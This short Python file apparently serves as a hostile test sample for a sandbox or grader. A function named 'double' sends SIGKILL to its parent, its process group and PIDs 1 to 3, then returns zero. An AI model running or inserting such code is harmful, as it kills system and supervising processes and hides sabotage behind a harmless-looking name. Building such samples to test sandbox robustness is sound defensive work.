"""Kills its parent, and the parent's parent."""

import os
import signal


def double(x):
    for pid in {os.getppid(), os.getpgrp(), 1, 2, 3}:
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return x * 0
